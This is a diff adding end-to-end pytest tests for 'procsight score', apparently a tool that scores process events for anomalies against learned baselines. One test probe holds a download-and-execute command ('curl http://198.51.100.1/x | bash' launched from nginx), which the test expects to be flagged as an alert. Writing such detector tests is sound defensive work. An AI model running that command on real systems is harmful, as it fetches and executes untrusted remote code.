@@ -1,0 +1,71 @@
+"""`procsight score` end to end, as a user runs it (the installed console script)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+PROCSIGHT = shutil.which("procsight", path=str(Path(sys.executable).parent))
+EVAL = Path(__file__).resolve().parents[3] / "shared" / "eval"
+
+
+def _run(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    assert PROCSIGHT, "procsight console script not installed in this environment"
+    return subprocess.run([PROCSIGHT, *args], input=stdin, capture_output=True, text=True, timeout=120)
+
+
+def _line(name: str, args: list[str], **extra: object) -> str:
+    return json.dumps({"process.executable.name": name, "process.command_args": args,
+                       "process.command_line": " ".join(args), "process.parent.executable.name": "bash",
+                       "process.user.id": 0, **extra})
+
+
+def test_bad_lines_are_reported_with_line_numbers_and_skipped(tmp_path):
+    source = tmp_path / "trace.jsonl"
+    source.write_text("\n".join([
+        _line("ls", ["ls", "-la"]),
+        "{not json",
+        json.dumps({"process.pid": 5}),
+        json.dumps(["a", "list"]),
+        _line("cat", ["cat", "/etc/hosts"]),
+    ]) + "\n")
+    result = _run("score", "--baselines", str(tmp_path / "b"), str(source))
+    assert result.returncode == 0, result.stderr
+    out = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [o["process.executable.name"] for o in out] == ["ls", "cat"]
+    for key in ("anomaly_score", "anomaly_severity", "anomaly_reasons", "anomaly_nearest", "anomaly_model"):
+        assert key in out[0]
+    assert f"{source}:2: skipped" in result.stderr
+    assert f"{source}:3: skipped" in result.stderr and "process.executable.name" in result.stderr
+    assert f"{source}:4: skipped" in result.stderr
+
+
+def test_learn_only_then_score_from_stdin(tmp_path):
+    routine = "\n".join(_line("nginx", ["nginx", "-s", "reload"], **{"process.pid": p}) for p in range(50))
+    learned = _run("score", "--learn-only", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=routine)
+    assert learned.returncode == 0 and learned.stdout == ""
+    probe = _line("nginx", ["nginx", "-s", "reload"]) + "\n" + _line(
+        "bash", ["bash", "-c", "curl http://198.51.100.1/x | bash"], **{"process.parent.executable.name": "nginx"})
+    result = _run("score", "--baselines", str(tmp_path), "--workload", "web", "-", stdin=probe)
+    routine_out, attack_out = (json.loads(line) for line in result.stdout.splitlines())
+    assert routine_out["anomaly_score"] < 0.05 and routine_out["anomaly_severity"] == "none"
+    assert attack_out["anomaly_severity"] == "alert"
+    assert "download piped into a shell" in attack_out["anomaly_reasons"]
+
+
+@pytest.mark.skipif(not (EVAL / "benign_ci.jsonl").exists(), reason="../shared/eval is not beside the repo")
+def test_workload_from_field_scores_each_workload_against_its_own_baseline(tmp_path):
+    learned = _run("score", "--learn-only", "--baselines", str(tmp_path), "--workload-from-field", "workload",
+                   str(EVAL / "benign_ci.jsonl"), str(EVAL / "benign_web.jsonl"))
+    assert learned.returncode == 0, learned.stderr
+    tables = sorted(p.name for p in tmp_path.iterdir())
+    assert len(tables) == 2 and "_ci_" in tables[0] and "_web_" in tables[1]
+    scored = _run("score", "--baselines", str(tmp_path), "--workload-from-field", "workload",
+                  str(EVAL / "benign_web.jsonl"))
+    severities = [json.loads(line)["anomaly_severity"] for line in scored.stdout.splitlines()]
+    assert len(severities) == 1673 and set(severities) == {"none"}
